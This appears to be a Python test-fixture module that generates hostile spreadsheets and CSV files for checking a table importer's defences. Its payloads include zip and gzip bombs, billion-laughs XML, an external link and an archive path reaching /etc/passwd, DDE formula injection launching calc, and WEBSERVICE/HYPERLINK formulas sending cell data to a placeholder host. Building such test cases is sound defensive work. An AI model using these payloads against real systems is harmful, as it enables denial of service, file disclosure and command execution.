"""Make hostile tables: archives that swell, XML that reaches out or never ends, cells that compute."""

import gzip
import io
import random
import zipfile

import openpyxl

from tests.foundation.tables.test_workbook import MAIN, SHEET, TEXTS, altered, sheet, text_cells, workbook
from tests.records.hostile.pdf_files import document
from tests.records.hostile.picture_files import LAUGHS, zipped

HEAD = ["kode", "nama"]
STYLES, LINKS = "xl/styles.xml", "xl/externalLinks/externalLink1.xml"
MADE = "xl/worksheets/_rels/sheet1.xml.rels"
OUTSIDE = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>"""


def words(count):
    """Texts that do not pack to nothing."""
    chance = random.Random(1)  # noqa: S311 - the same files in every run
    some = [f"{chance.randrange(16**6):06x}" * 40 for _ in range(2_000)]
    return (chance.choice(some) for _ in range(count))


def shared(*texts):
    return (
        f'<sst xmlns="{MAIN}">' + "".join(f"<si><t>{each}</t></si>" for each in texts) + "</sst>"
    ).encode()


def rows_of(cells, count):
    return sheet(f"<row>{cells}</row>" * count)


def written_in(text):
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def overlapping():
    """An archive whose parts all lie on the same packed bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", bytes(20_000_000))
        first = archive.infolist()[0]
        for number in range(500):
            copy = zipfile.ZipInfo(f"xl/{number}.xml")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(copy, name, getattr(first, name))
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
    return out.getvalue()


WORKBOOKS = {
    "zeros beside the sheet": {"xl/media/image1.png": bytes(100_000_000)},
    "a sheet of spaces": {SHEET: sheet(" " * 100_000_000)},
    "laughs in the sheet": {SHEET: LAUGHS + b"<worksheet>&c;</worksheet>"},
    "laughs in the texts": {TEXTS: LAUGHS + b"<sst>&c;</sst>"},
    "a file of the machine in the styles": {STYLES: LAUGHS + b"<styleSheet>&x;</styleSheet>"},
    "link to another workbook": {LINKS: b"<a/>", MADE: OUTSIDE},
    "macro": {"xl/vbaProject.bin": b"x"},
    "formula that calls a program": {SHEET: sheet('<row><c r="A1"><f>cmd|"/C calc"!A0</f></c></row>')},
    "value in the last corner": {SHEET: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')},
    "one long text for every cell": {TEXTS: shared("a" * 9_000), SHEET: sheet(text_cells(200_000))},
    "texts of 200 MB": {TEXTS: shared(*words(900_000))},
    "cells of 200 MB": {SHEET: sheet("".join(f"<row>{written_in(each)}</row>" for each in words(900_000)))},
    "three million numbers": {SHEET: rows_of("<c><v>1</v></c>" * 5, 600_000)},
    "elements three million deep": {SHEET: sheet("<a>" * 3_000_000)},
    "cells three million deep": {SHEET: sheet("<c>" * 3_000_000)},
    "tag of 40 MB": {SHEET: sheet("<c a='" + "".join(words(170_000)) + "'/>")},
    "a million attributes": {SHEET: sheet("<c " + " ".join(f"a{n}='{n}'" for n in range(1_000_000)) + "/>")},
    "a million formats": {STYLES: b"<styleSheet>" + b"<numFmt numFmtId='1' formatCode='0'/>" * 10**6},
    "two thousand parts": {f"xl/media/{n}.png": b"" for n in range(2_000)},
    "names that lead upwards": {"../../../../etc/passwd": b"x", SHEET: b"<worksheet>"},
}
TEXT = {
    "gzip of 500 MB": lambda: packed_text(b"1" * 1_000 + b"\n", 500_000),
    "gzip of one endless line": lambda: packed_text(b"a" * 1_000_000, 500),
    "gzip of empty lines": lambda: packed_text(b"\n" * 1_000_000, 500),
    "gzip of one endless cell": lambda: gzip.compress(b'kode,nama\n1,"' + b"a\n" * 50_000_000, 1),
    "gzip in gzip in gzip": lambda: gzip.compress(gzip.compress(gzip.compress(b"kode,nama\n"))),
    "gzip cut short": lambda: gzip.compress(b"kode,nama\n" + random.Random(1).randbytes(9_000))[:300],  # noqa: S311
    "archive in an archive in an archive": lambda: zipped(3),
    "archive with overlapping parts": overlapping,
    "PDF": document,
    "page": lambda: b"<html><script>alert(1)</script>" * 100,
    "zeros": lambda: bytes(5_000_000),
    "text in UTF-32": lambda: "kode,nama\n".encode("utf-32"),
    "many quotes": lambda: b"kode,nama\n" + b'"' * 5_000_001,
    "a million columns": lambda: b"a," * 1_000_000,
    "nothing": lambda: b"",
}
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?x="&A1)',
    '=WEBSERVICE("http://a.example")',
    "\t=1+1",
    "a\u202egnp.exe",
)


def packed_text(piece, count):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6) as file:
        file.write(b"kode,nama\n")
        for _ in range(count):
            file.write(piece)
    return out.getvalue()


def written(folder, name):
    """The file of one case."""
    if name in WORKBOOKS:
        return altered(workbook(folder, [HEAD, ["11", "Aceh"]]), WORKBOOKS[name])
    (folder / "tabel.csv").write_bytes(TEXT[name]())
    return folder / "tabel.csv"


def formulas(folder):
    """A sound table but for its cells, as CSV and as a workbook that holds the formulas as texts."""
    rows = [HEAD, *([f"{number}", each] for number, each in enumerate(FORMULAS, 11))]
    plain = folder / "rumus.csv"
    plain.write_text(
        "\n".join(f'{code},"{name.replace(chr(34), chr(34) * 2)}"' for code, name in rows) + "\n"
    )
    book = openpyxl.Workbook()
    for place, (code, name) in enumerate(rows, 1):
        book.active.cell(place, 1, code)
        book.active.cell(place, 2, name.strip("\t")).data_type = "s"
    book.save(folder / "rumus.xlsx")
    return [plain, folder / "rumus.xlsx"]
